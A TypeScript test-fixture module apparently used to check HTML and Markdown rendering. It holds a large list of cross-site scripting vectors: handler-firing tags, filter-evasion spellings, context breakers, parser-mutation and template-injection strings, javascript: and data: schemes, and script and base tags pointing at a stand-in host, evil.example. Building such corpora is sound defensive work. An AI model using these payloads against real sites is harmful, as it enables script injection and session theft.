/**
 * Texts that a browser would run if a page let them become markup. Built from the classes of the well-known lists (OWASP's filter
 * evasion sheet, the cheat sheets of browser quirks): breaking out of a context, tags that run by themselves, handlers, addresses
 * with a scheme, encodings, mutation of what a parser reads twice, templates, Markdown. Each calls `alert` or sets `__xss`.
 */

const RUN = 'alert(1)';
const MARK = 'window.__xss=1';

/** Elements whose own life cycle calls a handler, with nobody's help. */
const selfRunning = [
  ['img src=x', 'onerror'],
  ['img src=x:x', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['svg/', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a autofocus href=#', 'onfocus'],
  ['video src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['object data=x', 'onerror'],
  ['iframe src=about:blank', 'onload'],
  ['iframe srcdoc=x', 'onload'],
  ['embed src=x', 'onerror'],
  ['script src=x:x', 'onerror'],
  ['link rel=stylesheet href=x:x', 'onerror'],
  ['style', 'onload'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['meter', 'onmouseover'],
  ['p style=animation:x', 'onanimationstart'],
  ['div popover id=p', 'onbeforetoggle'],
  ['dialog open', 'onclose'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['math><mtext', 'onclick'],
  ['input type=image src=x', 'onerror'],
  ['isindex type=image src=x', 'onerror'],
  ['x contenteditable', 'onblur'],
  ['video poster=x', 'onloadstart'],
] as const;

/** Ways in which the same tag has been written past a filter. */
const writings: ((tag: string, handler: string, code: string) => string)[] = [
  (tag, handler, code) => `<${tag} ${handler}=${code}>`,
  (tag, handler, code) => `<${tag.toUpperCase()} ${handler.toUpperCase()}="${code}">`,
  (tag, handler, code) => `"><${tag} ${handler}='${code}'>`,
  (tag, handler, code) => `'></title></textarea><${tag} ${handler}=${code}//`,
  (tag, handler, code) => `<${tag.replace(' ', '/')}/${handler}=${code}>`,
  (tag, handler, code) => `<${tag} ${handler}=&#97;${code.slice(1)}>`,
  (tag, handler, code) => `</script><${tag} ${handler}=\`${code}\`>`,
];

const scripts = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script >${RUN}</script >`,
  `<script/x>${RUN}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<script type=module>${RUN}</script>`,
  `<script>${MARK}//`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN};//<</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=data:,${RUN} />`,
  `<svg><script>&#97;lert(1)</script></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<script>\\u0061lert(1)</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<script id=page-data>{"name":"dev/mail"}</script>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=Content-Security-Policy content="">`,
  `<link rel=import href=//evil.example>`,
  `<form action=javascript:${RUN}><input type=submit autofocus>`,
  `<form><button formaction=javascript:${RUN}>x`,
  `<iframe src=javascript:${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe srcdoc="&lt;img src=x onerror=${RUN}&gt;">`,
  `<object data=javascript:${RUN}>`,
  `<object data="data:text/html,<script>${RUN}</script>">`,
  `<embed src=javascript:${RUN}>`,
  `<a href=javascript:${RUN}>x</a>`,
  `<a href="java&#10;script:${RUN}">x</a>`,
  `<a href="&#1;javascript:${RUN}">x</a>`,
  `<svg><a xlink:href=javascript:${RUN}><text y=9>x`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x">`,
  `<svg><foreignObject><img src=x onerror=${RUN}>`,
  `<math href=javascript:${RUN}>x`,
  `<img src=javascript:${RUN}>`,
  `<img srcset=javascript:${RUN}>`,
  `<table background=javascript:${RUN}>`,
  `<div style=background:url(javascript:${RUN})>`,
  `<div style="width:expression(${RUN})">`,
  `<style>@import'javascript:${RUN}';</style>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}>`,
];

/** Ends whatever one stands in: attribute, comment, raw text, script, JSON, template. */
const breakers = [
  `"><img src=x onerror=${RUN}>`,
  `' onmouseover=${RUN} x='`,
  `" autofocus onfocus=${RUN} x="`,
  `\` onload=${RUN} \``,
  `--><img src=x onerror=${RUN}><!--`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `--!><img src=x onerror=${RUN}>`,
  `]]><img src=x onerror=${RUN}>`,
  `</title><img src=x onerror=${RUN}>`,
  `</style><img src=x onerror=${RUN}>`,
  `</textarea><img src=x onerror=${RUN}>`,
  `</noscript><img src=x onerror=${RUN}>`,
  `</template><img src=x onerror=${RUN}>`,
  `</select><img src=x onerror=${RUN}>`,
  `</script><script>${RUN}</script>`,
  `</script\u00a0><img src=x onerror=${RUN}>`,
  `<!--<script>`,
  `<!--<script>x</script><img src=x onerror=${RUN}>`,
  `{"a":"</script><script>${RUN}</script>"}`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `\\x3cimg src=x onerror=${RUN}\\x3e`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `%3Cimg%20src=x%20onerror=${RUN}%3E`,
  `+ADw-img src=x onerror=${RUN}+AD4-`,
  `\uff1cimg src=x onerror=${RUN}\uff1e`,
  `\u2028${RUN}//`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\\";${RUN};//`,
  `-${RUN}-`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{{7*7}}{%${RUN}%}<%=${RUN}%>`,
  `{@html '<img src=x onerror=${RUN}>'}`,
  `{#if ${RUN}}{/if}`,
  `{${RUN}}`,
  `__CSP_NONCE__`,
  `<script nonce=__CSP_NONCE__>${RUN}</script>`,
  `<!--page:body--><!--page:data--><!--page:head-->`,
  `$&$\`$'$1`,
  `[object Object]`,
  `__proto__`,
];

/** What one parser reads as text and the next as markup. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<math><annotation-xml encoding=text/html><style><img src=x onerror=${RUN}></style>`,
  `<svg><desc><style><img title="</style><img src=x onerror=${RUN}>"></style>`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<p id="\u0000"><img/\u0000src=x onerror=${RUN}>`,
  `<select><style></select><img src=x onerror=${RUN}>`,
  `<select><iframe></select><img src=x onerror=${RUN}>`,
  `<svg><title><![CDATA[</title><img src=x onerror=${RUN}>]]>`,
  `<a href="#"\u000bonclick=${RUN}>x`,
  `<img src=x\u000conerror=${RUN}>`,
  `<x onclick=${RUN} id=__proto__ name=innerHTML>`,
  `<img name=createElement><form id=cookie><a id=location href=javascript:${RUN}>`,
];

const schemes = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `java\tscript:${RUN}`,
  `java%0ascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  ` javascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript:\\u0061lert(1)`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `blob:null/x`,
  `filesystem:x`,
  `view-source:javascript:${RUN}`,
  `feed:javascript:${RUN}`,
  `//evil.example/x`,
  `\\\\evil.example/x`,
];

/** Where Markdown takes an address. */
const links: ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
  (address) => `[x][r${address.length}]\n\n[r${address.length}]: ${address} "t"`,
  (address) => `[![a](x)](${address})`,
];

const markdownOnly = [
  `[x](x "onclick=${RUN}")`,
  `[x](x "\\" onclick=${RUN} \\"")`,
  `![x](x"onerror="${RUN})`,
  `![x\`]("onerror=${RUN})\``,
  `[<img src=x onerror=${RUN}>](x)`,
  `**<img src=x onerror=${RUN}>**`,
  `\`<img src=x onerror=${RUN}>\``,
  `\`\`\`"><img src=x onerror=${RUN}>\nx\n\`\`\``,
  `    <img src=x onerror=${RUN}>`,
  `<div>\n\n<img src=x onerror=${RUN}>\n\n</div>`,
  `<div onclick=${RUN}>**x**</div>`,
  `<details open ontoggle=${RUN}>`,
  `# <svg onload=${RUN}>`,
  `- <img src=x onerror=${RUN}>`,
  `> <img src=x onerror=${RUN}>`,
  `| a |\n|---|\n| <img src=x onerror=${RUN}> |`,
  `[^1]\n\n[^1]: <img src=x onerror=${RUN}>`,
  `<!-- x -->\n<img src=x onerror=${RUN}>`,
  `<?php ${RUN} ?><![CDATA[<img src=x onerror=${RUN}>]]>`,
  `www.evil.example/"onclick=${RUN}`,
  `https://evil.example/"><img src=x onerror=${RUN}>`,
  `<mailto:a@b.example?subject="><img src=x onerror=${RUN}>>`,
  `[x]: javascript:${RUN}\n\n[x]`,
  `&#x3c;img src=x onerror=${RUN}&#x3e;`,
  `\\<img src=x onerror=${RUN}>`,
];

/** Texts that are to be shown as they are. */
export const htmlVectors: readonly string[] = [
  ...scripts,
  ...breakers,
  ...mutations,
  ...schemes,
  ...selfRunning.flatMap(([tag, handler], index) => {
    const all = writings.map((write) => write(tag, handler, index % 2 ? RUN : MARK));
    // Each tag in some writings, each writing with some tags: all of it would be the same again.
    return all.filter((_, each) => (index + each) % 2 === 0);
  }),
];

/** Texts that Markdown makes something of. */
export const markdownVectors: readonly string[] = [
  ...markdownOnly,
  ...schemes.flatMap((scheme) => links.map((link) => link(scheme))),
];

/**
 * Packs vectors into as few texts as they fit into, `maxLength` UTF-16 units each. Characters that no text may hold are left out.
 */
export function packed(vectors: readonly string[], maxLength: number, between = ' '): string[] {
  const texts: string[] = [];
  let text = '';
  for (const vector of vectors) {
    // eslint-disable-next-line no-control-regex -- control characters are refused before they are shown
    const one = vector.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/g, '');
    if (one.length > maxLength) continue;
    if (text && text.length + between.length + one.length > maxLength) {
      texts.push(text);
      text = '';
    }
    text += (text ? between : '') + one;
  }
  if (text) texts.push(text);
  return texts;
}
